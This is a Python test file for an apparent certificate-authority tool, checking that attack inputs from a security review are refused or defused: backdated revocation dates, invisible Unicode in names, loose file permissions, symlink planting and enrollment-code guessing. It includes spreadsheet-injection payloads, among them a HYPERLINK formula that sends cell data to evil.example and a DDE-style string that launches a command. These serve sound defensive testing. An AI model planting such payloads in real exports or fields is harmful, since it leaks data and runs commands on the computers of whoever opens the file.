"""Findings of the attack review (issue 12): each refusal or detection, and that nothing changed."""

from __future__ import annotations

import datetime as dt
import subprocess
import sys
from pathlib import Path

import pytest
from cryptography import x509

from kinko.ca.home import Home
from kinko.ca.lifecycle import Kinko
from tests.conftest import ROOT, make_csr, raw_execute, row_counts


@pytest.mark.parametrize("option", ["--invalidity-date", "--reported-at"])
@pytest.mark.parametrize("when", ["0001-01-01T00:00:00Z", "before-issue"])
def test_report_dates_before_not_before_are_refused(
    home: Home, kinko: Kinko, run_cli, clock, option: str, when: str
) -> None:
    serial = kinko.issue(make_csr(), name="山田 太郎").record.serial
    crl_before = (home.public_dir / "crl" / "issuing.crl").read_bytes()
    if when == "before-issue":
        when = (clock.now() - dt.timedelta(seconds=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    before = row_counts(home)
    result = run_cli("--home", home.path, "revoke", serial, "--reason", "key-compromise", option, when)
    assert result.exit_code == 1, result.output
    assert result.output.startswith("kinko: error: ") and "before certificate" in result.output
    assert len(result.output.strip().splitlines()) == 1
    assert row_counts(home) == before
    assert home.store.certificate(serial).status == "valid"
    assert (home.public_dir / "crl" / "issuing.crl").read_bytes() == crl_before
    x509.load_der_x509_crl(crl_before)


def test_incident_with_a_compromise_before_not_before_is_refused(home: Home, kinko: Kinko, clock) -> None:
    from kinko.ca.errors import InputError

    kinko.add_customer("C1", "株式会社テスト")
    enrolled = kinko.enroll_administrator("C1", "管理 者")
    kinko.acquire(enrolled.code, make_csr())
    before = row_counts(home)
    with pytest.raises(InputError, match="before certificate"):
        kinko.report_incident(
            enrolled.subscriber_id,
            "lost",
            received_at=clock.now(),
            suspected_since=dt.datetime(1, 1, 1, tzinfo=dt.UTC),
        )
    assert row_counts(home) == before
    assert home.store.incidents() == []


def _kinko_bytes(home: Home, *args: bytes) -> subprocess.CompletedProcess[bytes]:
    """A real `kinko` process with raw argv bytes (a terminal that is not UTF-8)."""
    return subprocess.run(
        [sys.executable.encode(), b"-m", b"kinko.cli", b"--home", bytes(home.path), *args],
        capture_output=True,
        cwd=ROOT,
        timeout=60,
        check=False,
    )


@pytest.mark.parametrize(
    ("name", "named"),
    [
        ("山田\u202etxt.exe", "RIGHT-TO-LEFT OVERRIDE"),
        ("山田\u200b太郎", "ZERO WIDTH SPACE"),
        ("山田\u0085太郎", "U+0085"),
        ("山田\u2066太郎", "LEFT-TO-RIGHT ISOLATE"),
        ("\ufeff山田", "ZERO WIDTH NO-BREAK SPACE"),
    ],
)
def test_invisible_characters_in_names_are_refused_by_name(home: Home, name: str, named: str) -> None:
    before = row_counts(home)
    result = _kinko_bytes(home, b"customer", b"add", b"C1", b"--name", name.encode())
    assert result.returncode == 1, result.stderr
    message = result.stderr.decode()
    assert message.startswith("kinko: error: ") and named in message and "Traceback" not in message
    assert len(message.strip().splitlines()) == 1
    assert row_counts(home) == before


@pytest.mark.parametrize("name", ["あ" * 22, "x" * 65, "株式会社" + "y" * 53])
def test_a_name_over_64_utf8_bytes_ends_with_exit_1_and_the_limit(home: Home, name: str) -> None:
    before = row_counts(home)
    result = _kinko_bytes(home, b"customer", b"add", b"C1", b"--name", name.encode())
    assert result.returncode == 1, result.stderr
    message = result.stderr.decode()
    assert message.startswith("kinko: error: name is ") and "64 ASCII characters or 21 kanji" in message
    assert row_counts(home) == before


def test_names_of_exactly_64_bytes_are_accepted(kinko: Kinko) -> None:
    assert kinko.add_customer("C1", "あ" * 21 + "x").name == "あ" * 21 + "x"
    assert kinko.add_customer("C2", "x" * 64).name == "x" * 64


def test_a_name_that_is_not_utf8_ends_with_exit_1(home: Home) -> None:
    before = row_counts(home)
    result = _kinko_bytes(home, b"customer", b"add", b"C1", b"--name", "山田".encode("shift_jis"))
    assert result.returncode == 1, result.stderr
    message = result.stderr.decode(errors="replace")
    assert message.startswith("kinko: error: name is not valid UTF-8") and "Traceback" not in message
    assert row_counts(home) == before


def test_release_does_not_lift_a_suspension_hold(home: Home, kinko: Kinko, run_cli) -> None:
    kinko.add_customer("C1", "株式会社テスト")
    enrolled = kinko.enroll_administrator("C1", "管理 者")
    serial = kinko.acquire(enrolled.code, make_csr()).record.serial
    kinko.suspend_customer("C1")
    crl = (home.public_dir / "crl" / "issuing.crl").read_bytes()
    before = row_counts(home)
    result = run_cli("--home", home.path, "release", serial)
    assert result.exit_code == 1, result.output
    assert result.output == (
        f"kinko: error: certificate {serial} is held by the suspension of customer C1; "
        "only `kinko customer resume C1` releases it\n"
    )
    assert row_counts(home) == before
    assert home.store.certificate(serial).status == "held"
    assert (home.public_dir / "crl" / "issuing.crl").read_bytes() == crl
    kinko.resume_customer("C1")
    assert home.store.certificate(serial).status == "valid"


def test_release_still_lifts_an_officers_hold_of_a_suspended_customers_certificate(kinko: Kinko, home: Home) -> None:
    kinko.add_customer("C1", "株式会社テスト")
    enrolled = kinko.enroll_administrator("C1", "管理 者")
    serial = kinko.acquire(enrolled.code, make_csr()).record.serial
    kinko.hold(serial)
    kinko.suspend_customer("C1")
    kinko.release(serial)
    assert home.store.certificate(serial).status == "valid"


def test_enroll_gives_up_when_no_lookup_is_free(home: Home, kinko: Kinko, monkeypatch: pytest.MonkeyPatch) -> None:
    from kinko.ca import enrollments
    from kinko.ca.errors import Conflict

    kinko.add_customer("C1", "株式会社テスト")
    taken = kinko.enroll_administrator("C1", "管理 一郎").code
    # Every fresh code collides with the enrollment made above (as once every lookup is used).
    draws: list[str] = []

    def colliding() -> str:
        draws.append(taken)
        if len(draws) > 1000:
            raise AssertionError("enroll kept drawing codes under the write lock")
        return taken

    monkeypatch.setattr(enrollments, "new_code", colliding)
    before = row_counts(home)
    with pytest.raises(Conflict, match="no free enrollment code"):
        kinko.enroll_administrator("C1", "管理 二郎")
    assert len(draws) <= 16
    assert row_counts(home) == before


def test_the_lookup_is_two_groups(kinko: Kinko) -> None:
    from kinko.ca import enrollments
    from kinko.ca.errors import PolicyError

    kinko.add_customer("C1", "株式会社テスト")
    code = kinko.enroll_administrator("C1", "管理 一郎").code
    normalized = enrollments.normalize(code)
    assert normalized is not None and len(enrollments.lookup_key(normalized)) == 8
    # Same first group, another second: no longer finds the row (a 20-bit lookup did).
    groups = code.split("-")
    groups[1] = "0000" if groups[1] != "0000" else "1111"
    with pytest.raises(PolicyError, match="code"):
        kinko.acquire("-".join(groups), make_csr())


def test_a_code_stored_under_the_old_one_group_lookup_still_redeems(home: Home, kinko: Kinko, clock) -> None:
    from kinko.ca import enrollments
    from kinko.ca.clock import to_text

    kinko.add_customer("C1", "株式会社テスト")
    subscriber = kinko.enroll_administrator("C1", "管理 一郎").subscriber_id
    code = enrollments.new_code()
    normalized = enrollments.normalize(code)
    assert normalized is not None
    expires = to_text(clock.now() + dt.timedelta(days=80)) or ""
    with home.store.transaction("test", to_text(clock.now()) or "") as tx:
        tx.close_enrollments(subscriber)
        enrollment = tx.add_enrollment(
            subscriber, "new", normalized[:4], enrollments.code_hash(normalized), expires, "test"
        )
        # As the wave-1 code recorded it: the enrollment, no code commitment yet.
        details = {"enrollment": enrollment, "kind": "new", "expires_at": expires, "on_behalf_of": None}
        tx.append_event("enrollment.created", subscriber=subscriber, customer="C1", details=details)
    assert kinko.acquire(code, make_csr()).record.subscriber_id == subscriber


def _point_config_at(home: Home, key: str, path: Path) -> None:
    text = home.config_file.read_text(encoding="utf-8")
    home.config_file.write_text(
        "\n".join(f'{key} = "{path}"' if line.startswith(f"{key} =") else line for line in text.splitlines()) + "\n",
        encoding="utf-8",
    )


@pytest.mark.parametrize("mode", [0o640, 0o604, 0o644])
def test_a_passphrase_file_others_can_read_is_refused(home: Home, passphrase_file: Path, mode: int) -> None:
    from tests.conftest import run_kinko

    passphrase_file.chmod(mode)
    before = row_counts(home)
    result = run_kinko("--home", home.path, "issue", "--csr", _csr_file(home), "--name", "山田 太郎")
    assert result.returncode == 1, result.stderr
    assert result.stderr == (
        f"kinko: error: passphrase file {passphrase_file} is mode {mode:04o}: group and others may read it; "
        f"chmod 600 {passphrase_file}\n"
    )
    assert row_counts(home) == before


@pytest.mark.parametrize("special", ["/dev/zero", "fifo"])
def test_a_passphrase_path_that_is_a_device_or_fifo_is_refused_at_once(
    home: Home, tmp_path: Path, special: str
) -> None:
    import os

    from tests.conftest import run_kinko

    path = Path(special)
    if special == "fifo":
        path = tmp_path / "pass.fifo"
        os.mkfifo(path, 0o600)
    before = row_counts(home)
    # A hang (reading /dev/zero for ever, or waiting for a FIFO's writer) ends in the timeout.
    result = run_kinko(
        "--home",
        home.path,
        "issue",
        "--csr",
        _csr_file(home),
        "--name",
        "x",
        env={"KINKO_PASSPHRASE_FILE": str(path)},
        timeout=20,
    )
    assert result.returncode == 1, result.stderr
    assert "is not a regular file" in result.stderr and result.stderr.count("\n") == 1
    assert row_counts(home) == before


@pytest.mark.parametrize("mode", [0o644, 0o660])
def test_an_api_token_file_others_can_read_is_refused(home: Home, tmp_path: Path, mode: int) -> None:
    from tests.conftest import free_port, run_kinko

    token = tmp_path / "api.token"
    token.write_text("s3cret-token-for-the-login-front-end\n")
    token.chmod(mode)
    _point_config_at(home, "token_file", token)
    result = run_kinko("--home", home.path, "api", "serve", "--port", str(free_port()))
    assert result.returncode == 1, result.stderr
    assert f"API token file {token} is mode {mode:04o}" in result.stderr and result.stderr.count("\n") == 1


def _csr_file(home: Home) -> Path:
    path = home.path.parent / "request.csr"
    path.write_bytes(make_csr())
    return path


def _checkpoints(home: Home) -> int:

    return int(raw_execute(home, "SELECT COUNT(*) FROM checkpoints")[0][0])


def test_a_wrong_code_costs_the_same_whether_or_not_its_enrollment_exists(home: Home, kinko: Kinko) -> None:
    from kinko.ca.errors import PolicyError

    kinko.add_customer("C1", "株式会社テスト")
    code = kinko.enroll_administrator("C1", "管理 一郎").code
    found_wrong = code[:-1] + ("X" if code[-1] != "X" else "Y")
    costs = []
    for wrong in (found_wrong, "ZZZZ-ZZZZ-ZZZZ-ZZZZ-ZZZZ-ZZZZ-ZZZZ", "garbage"):
        before = (row_counts(home)["ledger"], _checkpoints(home))
        with pytest.raises(PolicyError) as refused:
            kinko.acquire(wrong, make_csr(), client="api:192.0.2.1")
        after = (row_counts(home)["ledger"], _checkpoints(home))
        costs.append((after[0] - before[0], after[1] - before[1], str(refused.value)))
    # One event and one signed checkpoint each (a write, an fsync and a signature), one message.
    assert costs[0] == costs[1] == costs[2] and costs[0][:2] == (1, 1), costs


def test_only_the_guessing_client_is_locked_and_for_15_minutes(home: Home, kinko: Kinko, clock) -> None:
    from kinko.ca.errors import PolicyError

    kinko.add_customer("C1", "株式会社テスト")
    code = kinko.enroll_administrator("C1", "管理 一郎").code
    for _ in range(20):  # codes of no enrollment: the per-client limit, whoever they were for
        with pytest.raises(PolicyError, match="not valid"):
            kinko.acquire("ZZZZ-ZZZZ-ZZZZ-ZZZZ-ZZZZ-ZZZZ-ZZZZ", make_csr(), client="api:192.0.2.66")
    locked_at = clock.now()
    before = row_counts(home)
    with pytest.raises(PolicyError, match="too many wrong codes") as refused:
        kinko.acquire(code, make_csr(), client="api:192.0.2.66")
    assert f"after {(locked_at + dt.timedelta(minutes=15)).strftime('%Y-%m-%dT%H:%M:%SZ')}" in str(refused.value)
    assert row_counts(home) == before  # a locked client costs nothing more
    clock.advance(minutes=15)
    assert kinko.acquire(code, make_csr(), client="api:192.0.2.66").record.status == "valid"


def test_guesses_from_one_client_never_lock_the_holder_out_elsewhere(kinko: Kinko) -> None:
    from kinko.ca.errors import PolicyError

    kinko.add_customer("C1", "株式会社テスト")
    code = kinko.enroll_administrator("C1", "管理 一郎").code
    wrong = code[:-1] + ("X" if code[-1] != "X" else "Y")
    for _ in range(5):
        with pytest.raises(PolicyError, match="not valid"):
            kinko.acquire(wrong, make_csr(), client="api:203.0.113.9")
    with pytest.raises(PolicyError, match="too many wrong codes"):
        kinko.acquire(code, make_csr(), client="api:203.0.113.9")
    assert kinko.acquire(code, make_csr(), client="api:198.51.100.3").record.status == "valid"


def test_crl_publish_never_writes_through_a_planted_symlink(home: Home, kinko: Kinko, tmp_path: Path) -> None:
    import os

    # A local user plants symlinks where the publisher's temporary files used to be named
    # (.NAME.PID.tmp, the PID of this process) and at the published names themselves.
    victim = tmp_path / "root-only.conf"
    victim.write_bytes(b"secret configuration\n")
    victim.chmod(0o600)
    crl_dir = home.public_dir / "crl"
    for name in ("issuing.crl", "issuing.pem", "issuing-delta.crl", "issuing-delta.pem"):
        (crl_dir / f".{name}.{os.getpid()}.tmp").symlink_to(victim)
    kinko.publish_crl()
    assert victim.read_bytes() == b"secret configuration\n"
    assert victim.stat().st_mode & 0o777 == 0o600
    crl = crl_dir / "issuing.crl"
    assert not crl.is_symlink() and crl.stat().st_mode & 0o777 == 0o644
    x509.load_der_x509_crl(crl.read_bytes())
    # Nor through one planted at the published name: rename replaces the link itself.
    (crl_dir / "issuing.crl").unlink()
    (crl_dir / "issuing.crl").symlink_to(victim)
    kinko.publish_crl()
    assert victim.read_bytes() == b"secret configuration\n"
    assert not (crl_dir / "issuing.crl").is_symlink()


def _crl_number(path: Path) -> int:
    crl = x509.load_der_x509_crl(path.read_bytes())
    return crl.extensions.get_extension_for_class(x509.CRLNumber).value.crl_number


def _published_events(home: Home) -> int:
    return sum(1 for e in home.store.ledger_events() if e.action == "crl.published")


def test_a_crl_whose_file_cannot_be_written_is_not_recorded(home: Home, run_cli) -> None:
    import json as json_module
    import shutil

    der = home.public_dir / "crl" / "issuing.crl"
    served = _crl_number(der)
    saved = der.read_bytes()
    der.unlink()
    der.mkdir()  # the rename over it fails, as a full or read-only disk would
    events = _published_events(home)
    result = run_cli("--home", home.path, "crl", "publish")
    assert result.exit_code != 0 and result.output.startswith("kinko: error: cannot write ")
    assert "was not published" in result.output and result.output.count("\n") == 1
    assert _published_events(home) == events
    shutil.rmtree(der)
    der.write_bytes(saved)
    shown = json_module.loads(run_cli("--json", "--home", home.path, "crl", "show").output)
    issuing_full = next(c for c in shown if c["issuer"] == "issuing" and c["kind"] == "full")
    assert issuing_full["number"] == served == _crl_number(der)


def test_a_crl_that_does_not_parse_is_neither_recorded_nor_served(home: Home, kinko: Kinko) -> None:

    from kinko.ca.errors import StorageError

    serial = kinko.issue(make_csr(), name="山田 太郎").record.serial
    kinko.revoke(serial, "key-compromise")
    # A date an older Kinko stored with an unpadded year: the encoder made invalid DER of it.
    raw_execute(home, "UPDATE certificates SET invalidity_date = '1-01-01T00:00:00Z' WHERE serial = ?", (serial,))
    files = {p: p.read_bytes() for p in (home.public_dir / "crl").iterdir()}
    events = _published_events(home)
    with pytest.raises(StorageError, match="nothing was published"):
        kinko.publish_crl()
    assert {p: p.read_bytes() for p in (home.public_dir / "crl").iterdir()} == files
    assert _published_events(home) == events


def test_the_responder_serves_no_file_outside_public(home: Home, kinko: Kinko, tmp_path: Path) -> None:
    import os
    import urllib.error
    import urllib.request

    from tests.conftest import RunningResponder

    key = next(p for p in home.keys_dir.iterdir() if p.name.startswith("ocsp-"))
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x.crl").write_bytes(b"not public")
    (home.public_dir / "ca" / "leak.cer").symlink_to(Path("..") / ".." / "keys" / key.name)
    (home.public_dir / "ca" / "abs.cer").symlink_to(key)
    (home.public_dir / "crl").rename(home.public_dir / "crl-real")
    (home.public_dir / "crl").symlink_to(outside)  # a symlinked folder as well
    os.mkfifo(home.public_dir / "ca" / "fifo.cer")
    responder = RunningResponder(home)
    try:
        for path in ("/ca/leak.cer", "/ca/abs.cer", "/crl/x.crl", "/ca/fifo.cer"):
            with pytest.raises(urllib.error.HTTPError) as refused:
                urllib.request.urlopen(responder.url.rstrip("/") + path, timeout=5)  # noqa: S310 - loopback
            assert refused.value.code == 404, path
            assert b"PRIVATE KEY" not in refused.value.read()
        with urllib.request.urlopen(responder.url + "ca/issuing.cer", timeout=5) as reply:  # noqa: S310
            assert reply.status == 200
            assert reply.read() == (home.public_dir / "ca" / "issuing.cer").read_bytes()
        assert responder.alive()
    finally:
        responder.stop()


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"請求書")'


def test_report_csv_neutralises_formula_cells(home: Home, kinko: Kinko, run_cli) -> None:
    import csv
    import io

    kinko.add_customer("C1", "+株式会社テスト")
    kinko.enroll_administrator("C1", FORMULA)
    kinko.enroll_administrator("C1", "@SUM(1+1)*cmd|' /C calc'!A0")
    result = run_cli("--home", home.path, "report", "enrollments", "--within", "90d", "--csv")
    assert result.exit_code == 0, result.output
    names = sorted(row["name"] for row in csv.DictReader(io.StringIO(result.output)))
    assert names == sorted(["'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0"])
    for line in result.output.splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell or cell[0] not in "=+-@\t\r", cell


def test_ledger_csv_neutralises_formula_cells_and_still_verifies(home: Home, tmp_path: Path, clock) -> None:
    import csv
    import re

    from kinko.ca import audit, ledger

    actor = "=cmd|' /C calc'!A0"
    Kinko(home, clock=clock, actor=actor).add_customer("C1", FORMULA[:60])
    from kinko.ca.clock import to_text

    # Sealed at the clock's time: a checkpoint dated before the audit signer existed is refused.
    with home.store.transaction("'quoted", to_text(clock.now()) or "") as tx:
        tx.append_event("test.awkward", customer="-C", details={"note": "'"})
    out = tmp_path / "ledger.csv"
    stored = list(home.store.ledger_events())
    audit.export(home, out, fmt="csv", actor="tester", now=clock.now())
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell and cell[0] in "=+-@\t\r"]
    assert any(row["actor"] == "'" + actor for row in rows)
    assert any(row["actor"] == "''quoted" and row["customer"] == "'-C" for row in rows)
    # Read back exactly as stored, and verified offline, signature and chain.
    with out.open(encoding="utf-8", newline="") as handle:
        assert list(ledger.read_export(handle)) == stored
    assert audit.verify_export(out, home.public_dir / "ca" / "root.pem").ok  # the auditor's own anchor
    # README's recomputation from the CSV alone still holds.
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    script = re.search(r"```python\n(import csv, hashlib, json, sys\n.*?)```", readme, re.S)
    assert script is not None
    result = subprocess.run(
        [sys.executable, "-c", script.group(1), str(out)], capture_output=True, text=True, check=False, timeout=60
    )
    assert result.returncode == 0 and result.stdout.startswith("chain intact"), result.stdout + result.stderr


def _umask_000_kinko(*args: str | Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    import os

    return subprocess.run(
        [sys.executable, "-m", "kinko.cli", *map(str, args)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
        check=False,
        env={**os.environ, **(env or {})},
        preexec_fn=lambda: os.umask(0),  # the point of the test
    )


def test_modes_are_explicit_under_umask_000(tmp_path: Path, passphrase_file: Path) -> None:
    import stat

    home = tmp_path / "new" / "home"
    result = _umask_000_kinko("--home", home, "init", "--org", "興産信用金庫", "--passphrase-file", passphrase_file)
    assert result.returncode == 0, result.stderr
    csr = tmp_path / "r.csr"
    csr.write_bytes(make_csr())
    out = tmp_path / "issued.pem"
    for args in (
        ["issue", "--csr", csr, "--name", "山田 太郎", "--out", out],
        ["crl", "publish"],
        ["ca", "chain", "--out", tmp_path / "chain.pem"],
    ):
        result = _umask_000_kinko("--home", home, *args)
        assert result.returncode == 0, (args, result.stderr)

    def mode(path: Path) -> int:
        return stat.S_IMODE(path.lstat().st_mode)

    assert mode(home / "kinko.toml") == 0o644 and mode(home / "profiles.toml") == 0o644
    assert mode(home) == 0o755 and mode(home / "public") == 0o755
    assert mode(home / "public" / "ca") == 0o755 and mode(home / "public" / "crl") == 0o755
    assert mode(home / "keys") == 0o700
    assert mode(home / "kinko.db") == 0o600
    assert mode(out) == 0o644 and mode(tmp_path / "chain.pem") == 0o644
    assert mode(tmp_path / "new") == 0o755
    for path in [home, *home.rglob("*"), out]:
        assert not mode(path) & 0o002, f"{path} is world-writable ({mode(path):04o})"
        if path.is_file() and (path.parent.name == "keys" or path.name.startswith("kinko.db")):
            assert not mode(path) & 0o077, f"{path} is {mode(path):04o}"


def test_a_built_ocsp_response_is_parsed_and_checked_before_it_is_stored(home: Home, kinko: Kinko, clock) -> None:
    import dataclasses

    from kinko.ca.errors import StorageError
    from kinko.ca.serials import parse_serial
    from kinko.ocsp.presign import check_built, load_context, response_window, status_for
    from kinko.ocsp.protocol import build_response, encode_cert_id

    record = kinko.issue(make_csr(), name="山田 太郎").record
    context = load_context(home, record.issuer)
    this_update, next_update = response_window(context, clock.now(), 7)
    cert_id = encode_cert_id("sha1", *context.hashes["sha1"], parse_serial(record.serial))
    status = status_for(record, cert_id, this_update, next_update)
    der = build_response([status], responder=context.responder, produced_at=clock.now())
    check_built(der, status)  # what the pre-signer stores
    with pytest.raises(StorageError, match="does not parse"):
        check_built(der[:-7], status)
    with pytest.raises(StorageError, match="nothing was stored"):
        check_built(der, dataclasses.replace(status, status="revoked", revoked_at=this_update))


def test_an_export_with_holder_names_is_written_0600_whatever_the_umask(home: Home, tmp_path: Path, clock) -> None:
    import os

    from kinko.ca import audit

    Kinko(home, clock=clock).add_customer("C1", "株式会社テスト")
    out = tmp_path / "ledger.csv"
    out.write_text("last month's export\n")
    out.chmod(0o644)  # an older export, readable by others, overwritten in place
    previous = os.umask(0)
    try:
        audit.export(home, out, fmt="csv", actor="tester", now=clock.now())
    finally:
        os.umask(previous)
    assert out.stat().st_mode & 0o777 == 0o600
    assert "株式会社テスト" in out.read_text(encoding="utf-8")
